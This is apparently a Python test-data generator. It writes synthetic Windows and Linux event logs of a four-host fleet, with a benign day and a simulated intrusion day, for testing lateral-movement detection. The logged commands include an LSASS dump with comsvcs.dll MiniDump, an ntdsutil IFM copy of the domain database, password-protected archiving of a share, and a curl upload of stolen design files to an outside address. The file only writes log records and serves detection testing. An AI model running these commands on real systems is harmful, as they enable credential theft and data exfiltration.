#!/usr/bin/env python3
"""A fleet day for the cross-host tests, generated at test time.

Four hosts: a Windows workstation, a Windows file server, a domain
controller and a Linux design server, one JSON-lines file each, in the
EVTX-as-JSON shape (Sysmon, Security, System, Sysmon for Linux).

  gen-fleet-day.py --seed N --day attack|benign [--expect FILE] OUTDIR

Both days carry the same routine: users working, admins logging on to a few
hosts over the network and by RDP and ssh and running a discovery command
or two, one admin hopping from the file server to the domain controller
with a command on each that alerts (a profile migration into ProgramData,
a csvde export: together below an incident), the nightly backups (robocopy to the backup share, tar and rsync on
the Linux server). The attack day adds one intruder with a stolen account:
discovery and a credential dump on the workstation, then a network logon
with explicit credentials to the file server and a service that runs the
staging there (robocopy of the share, a password-protected 7-Zip archive),
a WinRM logon to the domain controller (ntdsutil IFM), an ssh logon to the
design server (tar of the layouts into /tmp, curl -T to an outside address).

Everything varies with the seed: host, account and service names, addresses,
the hour, gaps between steps, which host the ssh leaves from, file names.
The --expect file says what the day holds (hosts, stolen account, the
movements in order) for the test to compare with.
"""
import argparse
import json
import os
import random
import uuid
from datetime import datetime, timedelta, timezone

SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
LSYSMON = ("Linux-Sysmon", "Linux-Sysmon/Operational")
SECURITY = ("Microsoft-Windows-Security-Auditing", "Security")
SYSTEM = ("Service Control Manager", "System")

FIRST = ["anna", "boris", "chloe", "dmitri", "elena", "farid", "greta", "hugo", "ines", "jonas", "katja", "lars",
         "mira", "nils", "olga", "pavel", "rosa", "sven", "tara", "ugo"]
LAST = ["keller", "novak", "brandt", "sato", "moreau", "lindqvist", "okafor", "ruiz", "weber", "haas", "costa",
        "fischer", "ivanova", "berg", "meier"]


class Day:
    def __init__(self, rng, day0):
        self.rng = rng
        self.day0 = day0
        self.events = {}          # host -> [(time, event)]
        self.rec = 1000 + rng.randrange(100000)

    def at(self, minutes):
        return self.day0 + timedelta(minutes=minutes, seconds=self.rng.random() * 20)

    def emit(self, host, prov, eid, t, data):
        self.rec += 1
        ev = {"Event": {"System": {"Provider": {"#attributes": {"Name": prov[0]}}, "EventID": eid,
                                   "TimeCreated": {"#attributes": {"SystemTime": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
                                   "EventRecordID": self.rec, "Channel": prov[1], "Computer": host},
                        "EventData": data}}
        self.events.setdefault(host, []).append((t, ev))

    def utc(self, t):
        return t.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]


def guid(rng):
    return "{" + str(uuid.UUID(int=rng.getrandbits(128))).upper() + "}"


class Proc:
    """A process of one host, for parent links."""

    def __init__(self, d, host, image, cmd, user, logon, parent=None, linux=False, t=None):
        self.host, self.image, self.cmd, self.user, self.logon = host, image, cmd, user, logon
        self.guid = guid(d.rng)
        self.pid = d.rng.randrange(1000, 60000)
        self.parent = parent
        self.linux = linux

    def default_parent(self):
        """Where a process whose parent the day does not log comes from, as on
        a real host: systemd on Linux; on Windows a session's shell from
        explorer, explorer from userinit, services' hosts from svchost."""
        if self.linux:
            return "/usr/lib/systemd/systemd"
        name = self.image.split("\\")[-1].lower()
        if name == "explorer.exe":
            return "C:\\Windows\\System32\\userinit.exe"
        if name in ("wsmprovhost.exe", "wmiprvse.exe"):
            return "C:\\Windows\\System32\\svchost.exe"
        return "C:\\Windows\\explorer.exe"

    def start(self, d, t):
        p = self.parent
        data = {"UtcTime": d.utc(t), "ProcessGuid": self.guid, "ProcessId": self.pid, "Image": self.image,
                "CommandLine": self.cmd, "CurrentDirectory": "/" if self.linux else "C:\\Windows\\system32\\",
                "User": self.user, "LogonId": self.logon,
                "ParentProcessGuid": p.guid if p else guid(d.rng), "ParentProcessId": p.pid if p else 4,
                "ParentImage": p.image if p else self.default_parent(),
                "ParentCommandLine": p.cmd if p else "", "ParentUser": p.user if p else self.user,
                "OriginalFileName": self.image.replace("/", "\\").split("\\")[-1]}
        d.emit(self.host, LSYSMON if self.linux else SYSMON, 1, t, data)
        return self


def run(d, host, t, image, cmd, user, logon, parent, linux=False):
    return Proc(d, host, image, cmd, user, logon, parent, linux).start(d, t)


def conn(d, host, t, proc, src, dst, port, initiated=True, linux=False):
    d.emit(host, LSYSMON if linux else SYSMON, 3, t, {
        "UtcTime": d.utc(t), "ProcessGuid": proc.guid, "ProcessId": proc.pid, "Image": proc.image,
        "User": proc.user, "Protocol": "tcp", "Initiated": "true" if initiated else "false",
        "SourceIp": src, "SourcePort": d.rng.randrange(32768, 61000), "DestinationIp": dst,
        "DestinationPort": port})


def file_event(d, host, t, proc, path, linux=False):
    d.emit(host, LSYSMON if linux else SYSMON, 11, t, {
        "UtcTime": d.utc(t), "ProcessGuid": proc.guid, "ProcessId": proc.pid, "Image": proc.image,
        "TargetFilename": path, "User": proc.user})


def logon(d, host, t, user, domain, ltype, ws, ip, logon_id):
    d.emit(host, SECURITY, 4624, t, {
        "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
        "TargetUserName": user, "TargetDomainName": domain, "TargetLogonId": logon_id, "LogonType": ltype,
        "LogonProcessName": "NtLmSsp" if ltype == 3 else "User32", "AuthenticationPackageName": "NTLM",
        "WorkstationName": ws, "IpAddress": ip, "IpPort": str(d.rng.randrange(49152, 65000))})


def explicit(d, host, t, user, domain, subj_logon, target):
    d.emit(host, SECURITY, 4648, t, {
        "SubjectUserName": user, "SubjectDomainName": domain, "SubjectLogonId": subj_logon,
        "TargetUserName": user, "TargetDomainName": domain, "TargetServerName": target,
        "TargetInfo": target, "ProcessName": "C:\\Windows\\System32\\svchost.exe", "IpAddress": "-"})


def lid(d):
    return "0x%x" % d.rng.randrange(0x100000, 0x7ffffff)


def build(seed, attack):
    rng = random.Random(seed)
    org = rng.choice(["corp", "acme", "fabnet", "chipco", "wafer"])
    dom = org.upper()
    fqdn = "%s.example" % org
    n = rng.randrange(10, 99)
    ws = "%s-ws%02d" % (rng.choice(["fab", "eng", "lab", "ops"]), n)
    fs = "%s-fs%02d" % (rng.choice(["file", "share", "data"]), rng.randrange(1, 9))
    dc = "%s-dc%02d" % (org, rng.randrange(1, 9))
    lnx = "%s-%02d" % (rng.choice(["design-srv", "eda", "layout"]), rng.randrange(1, 20))
    net = "10.%d.%d" % (rng.randrange(10, 200), rng.randrange(1, 250))
    ip = {h: "%s.%d" % (net, rng.randrange(2, 250)) for h in (ws, fs, dc, lnx)}
    while len(set(ip.values())) < 4:
        ip[lnx] = "%s.%d" % (net, rng.randrange(2, 250))
    admin_pc = "%s.%d" % (net, 251)
    victim = "%s.%s" % (rng.choice(FIRST), rng.choice(LAST))
    admin = "adm.%s" % rng.choice([f for f in FIRST if f not in victim])
    backup = "svc_%s" % rng.choice(["backup", "veeam", "bkp"])
    day0 = datetime(2026, rng.randrange(1, 12), rng.randrange(1, 28), 6, 0, tzinfo=timezone.utc)
    d = Day(rng, day0)
    win = lambda h: "%s.%s" % (h, fqdn)  # Windows hosts log their DNS name
    W, F, D = win(ws), win(fs), win(dc)

    # --- routine, both days
    explorer = run(d, W, d.at(rng.randrange(100, 140)), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
                   "%s\\%s" % (dom, victim), "0x5a3f1", None)
    for k in range(rng.randrange(8, 14)):
        app = rng.choice(["C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                          "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
                          "C:\\Program Files\\KLayout\\klayout_app.exe"])
        run(d, W, d.at(150 + 40 * k), app, '"%s"' % app, "%s\\%s" % (dom, victim), "0x5a3f1", explorer)
    # admins: from their own PC to the file server and the DC, discovery there
    for k, host in enumerate(rng.sample([F, D], 2)):
        t = 200 + 25 * k + rng.randrange(0, 20)
        l = lid(d)
        logon(d, host, d.at(t), admin, dom, rng.choice([3, 10]), "ADMPC%02d" % n, admin_pc, l)
        sh = run(d, host, d.at(t + 1), "C:\\Windows\\System32\\cmd.exe", "cmd.exe", "%s\\%s" % (dom, admin), l, None)
        run(d, host, d.at(t + 2), "C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all", "%s\\%s" % (dom, admin), l, sh)
    # an admin hop from the file server to the DC with a routine command on each
    l1, l2 = lid(d), lid(d)
    t = 420 + rng.randrange(0, 60)
    logon(d, F, d.at(t), admin, dom, 3, "ADMPC%02d" % n, admin_pc, l1)
    sh = run(d, F, d.at(t + 1), "C:\\Windows\\System32\\cmd.exe", "cmd.exe", "%s\\%s" % (dom, admin), l1, None)
    run(d, F, d.at(t + 2), "C:\\Windows\\System32\\whoami.exe", "whoami /groups", "%s\\%s" % (dom, admin), l1, sh)
    # a profile migration into ProgramData (an alert: share copied to a staging folder)
    run(d, F, d.at(t + 3), "C:\\Windows\\System32\\Robocopy.exe",
        "robocopy \\\\%s\\profiles$ C:\\ProgramData\\migr%d /E /COPY:DAT" % (fs, rng.randrange(1, 9)),
        "%s\\%s" % (dom, admin), l1, sh)
    explicit(d, F, d.at(t + 5), admin, dom, l1, D)
    logon(d, D, d.at(t + 5), admin, dom, 3, fs.upper(), ip[fs], l2)
    sh2 = run(d, D, d.at(t + 6), "C:\\Windows\\System32\\cmd.exe", "cmd.exe", "%s\\%s" % (dom, admin), l2, None)
    run(d, D, d.at(t + 7), "C:\\Windows\\System32\\systeminfo.exe", "systeminfo", "%s\\%s" % (dom, admin), l2, sh2)
    # the directory report (an alert: objects exported with csvde)
    run(d, D, d.at(t + 9), "C:\\Windows\\System32\\csvde.exe",
        "csvde -f C:\\Reports\\users-%d.csv -r objectClass=user" % rng.randrange(1, 99),
        "%s\\%s" % (dom, admin), l2, sh2)
    # the admin's ssh to the design server
    t = 300 + rng.randrange(0, 60)
    sshd = Proc(d, lnx, "/usr/sbin/sshd", "/usr/sbin/sshd -D", "root", 4294967295, None, True)
    conn(d, lnx, d.at(t), sshd, admin_pc, ip[lnx], 22, initiated=False, linux=True)
    bash = run(d, lnx, d.at(t) + timedelta(seconds=1), "/usr/bin/bash", "-bash", admin, 1001, sshd, True)
    run(d, lnx, d.at(t + 1), "/usr/bin/id", "id", admin, 1001, bash, True)
    run(d, lnx, d.at(t + 2), "/usr/bin/uname", "uname -a", admin, 1001, bash, True)
    # backups: the service account from the Linux server's agent, robocopy
    # to the backup share, tar and rsync on Linux
    t = 60 + rng.randrange(0, 20)
    l = lid(d)
    logon(d, F, d.at(t), backup, dom, 3, "BKP01", "%s.%d" % (net, 252), l)
    agent = run(d, F, d.at(t + 1), "C:\\Program Files\\Backup\\agent.exe", "agent.exe --job nightly",
                "%s\\%s" % (dom, backup), l, None)
    run(d, F, d.at(t + 2), "C:\\Windows\\System32\\Robocopy.exe",
        "robocopy D:\\Shares \\\\bkp01\\%s /MIR /R:1" % fs, "%s\\%s" % (dom, backup), l, agent)
    cron = Proc(d, lnx, "/usr/sbin/cron", "/usr/sbin/cron -f", "root", 4294967295, None, True)
    tb = run(d, lnx, d.at(t + 5), "/usr/bin/tar", "tar czf /var/backups/srv-%d.tgz /srv" % rng.randrange(100, 999),
             "root", 4294967295, cron, True)
    run(d, lnx, d.at(t + 20), "/usr/bin/rsync", "rsync -a /var/backups/ backup@%s.%d:/data/" % (net, 252), "root",
        4294967295, cron, True)

    moves = []
    if attack:
        t0 = rng.randrange(420, 600)
        step = lambda: rng.randrange(2, 7)
        user = "%s\\%s" % (dom, victim)
        sess = "0x5a3f1"
        ps = run(d, W, d.at(t0), "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -nop",
                 user, sess, explorer)
        # the discovery burst: four different programs within minutes, in any order
        disc = [("whoami.exe", "whoami /all"), ("net.exe", 'net group "domain admins" /domain'),
                ("nltest.exe", "nltest /dclist:%s" % org), ("ipconfig.exe", "ipconfig /all"),
                ("quser.exe", "quser"), ("systeminfo.exe", "systeminfo")]
        rng.shuffle(disc)
        t = t0 + 1
        for exe, line in disc[:4]:
            run(d, W, d.at(t), "C:\\Windows\\System32\\" + exe, line, user, sess, ps)
            t += 1
        t += step()
        run(d, W, d.at(t), "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %d C:\\ProgramData\\%s.dmp full"
            % (rng.randrange(600, 900), rng.choice(["lsa", "m", "dbg"])), user, sess, ps)
        # to the file server: explicit credentials, network logon, a service
        t += step() + 3
        tm = d.at(t)
        explicit(d, W, tm, victim, dom, sess, F)
        conn(d, W, tm, ps, ip[ws], ip[fs], 445)
        lf = lid(d)
        logon(d, F, tm + timedelta(seconds=1), victim, dom, 3, ws.upper(), ip[ws], lf)
        moves.append((ws, fs))
        svc = "%s%d" % (rng.choice(["PSEXESVC", "updsvc", "WinMgmtX", "rsvc"]), rng.randrange(10, 99))
        d.emit(F, SYSTEM, 7045, tm + timedelta(seconds=4), {
            "ServiceName": svc, "ImagePath": "%%SystemRoot%%\\%s.exe" % svc, "ServiceType": "user mode service",
            "StartType": "demand start", "AccountName": "LocalSystem"})
        services = Proc(d, F, "C:\\Windows\\System32\\services.exe", "services.exe", "NT AUTHORITY\\SYSTEM", "0x3e7")
        sv = run(d, F, tm + timedelta(seconds=6), "C:\\Windows\\%s.exe" % svc, "C:\\Windows\\%s.exe" % svc,
                 "NT AUTHORITY\\SYSTEM", "0x3e7", services)
        cmd = run(d, F, tm + timedelta(seconds=8), "C:\\Windows\\System32\\cmd.exe", "cmd.exe /q",
                  "NT AUTHORITY\\SYSTEM", "0x3e7", sv)
        stg = rng.choice(["C:\\ProgramData\\stg", "C:\\Users\\Public\\tmp", "C:\\PerfLogs\\x"])
        t += step()
        run(d, F, d.at(t), "C:\\Windows\\System32\\Robocopy.exe",
            "robocopy \\\\%s\\design\\tapeout %s /E" % (fs, stg), "NT AUTHORITY\\SYSTEM", "0x3e7", cmd)
        t += step()
        arc = "%s\\%s.7z" % (stg, rng.choice(["d", "bk", "arc"]))
        z = run(d, F, d.at(t), "C:\\Program Files\\7-Zip\\7z.exe",
                "7z.exe a -p%s %s %s\\*" % (rng.choice(["Qw3rt", "x9x9", "Summer26"]), arc, stg),
                "NT AUTHORITY\\SYSTEM", "0x3e7", cmd)
        file_event(d, F, d.at(t) + timedelta(seconds=30), z, arc)
        # to the DC over WinRM
        t += step() + 2
        tm = d.at(t)
        conn(d, F, tm, cmd, ip[fs], ip[dc], 5985)
        ld = lid(d)
        logon(d, D, tm + timedelta(seconds=1), victim, dom, 3, fs.upper(), ip[fs], ld)
        moves.append((fs, dc))
        wsm = run(d, D, tm + timedelta(seconds=2), "C:\\Windows\\System32\\wsmprovhost.exe",
                  "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", user, ld, None)
        t += step()
        run(d, D, d.at(t), "C:\\Windows\\System32\\ntdsutil.exe",
            'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\ProgramData\\%s" q q' % rng.choice(["ifm", "n", "t"]),
            user, ld, wsm)
        # ssh to the design server, from the file server or the workstation
        src = rng.choice([ws, fs])
        SRC = win(src)
        t += step() + 3
        tm = d.at(t)
        sshc = run(d, SRC, tm, "C:\\Windows\\System32\\OpenSSH\\ssh.exe", "ssh %s@%s" % (victim, lnx),
                   user if src == ws else "NT AUTHORITY\\SYSTEM", sess if src == ws else "0x3e7",
                   ps if src == ws else cmd)
        conn(d, SRC, tm + timedelta(seconds=1), sshc, ip[src], ip[lnx], 22)
        conn(d, lnx, tm + timedelta(seconds=1), sshd, ip[src], ip[lnx], 22, initiated=False, linux=True)
        uid = rng.randrange(1002, 1900)
        bash = run(d, lnx, tm + timedelta(seconds=3), "/usr/bin/bash", "-bash", victim, uid, sshd, True)
        moves.append((src, lnx))
        t += step()
        tgz = "/tmp/.%s.tgz" % rng.choice(["x", "cache", "s"])
        tarp = run(d, lnx, d.at(t), "/usr/bin/tar",
                   "tar czf %s /srv/design/%s" % (tgz, rng.choice(["chipA/top.gds", "tapeout", "layout/core.oas"])),
                   victim, uid, bash, True)
        file_event(d, lnx, d.at(t) + timedelta(seconds=40), tarp, tgz, linux=True)
        t += step()
        out_ip = "203.0.113.%d" % rng.randrange(2, 250)
        cu = run(d, lnx, d.at(t), "/usr/bin/curl", "curl -s -T %s https://%s/u" % (tgz, out_ip), victim, uid, bash,
                 True)
        conn(d, lnx, d.at(t) + timedelta(seconds=1), cu, ip[lnx], out_ip, 443, linux=True)
    return d, {"hosts": {"workstation": W, "fileserver": F, "dc": D, "linux": lnx},
               "account": victim if attack else None, "admin": admin, "admin_pc": admin_pc,
               "moves": [[{ws: W, fs: F, dc: D, lnx: lnx}[a], {ws: W, fs: F, dc: D, lnx: lnx}[b]] for a, b in moves]}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--day", choices=["attack", "benign"], default="attack")
    ap.add_argument("--expect", help="where to write what the day holds (JSON)")
    ap.add_argument("outdir")
    a = ap.parse_args()
    d, expect = build(a.seed, a.day == "attack")
    os.makedirs(a.outdir, exist_ok=True)
    for host, evs in d.events.items():
        evs.sort(key=lambda x: x[0])
        with open(os.path.join(a.outdir, host.split(".")[0] + ".jsonl"), "w") as f:
            for _, ev in evs:
                f.write(json.dumps(ev) + "\n")
    if a.expect:
        with open(a.expect, "w") as f:
            json.dump(expect, f)


if __name__ == "__main__":
    main()
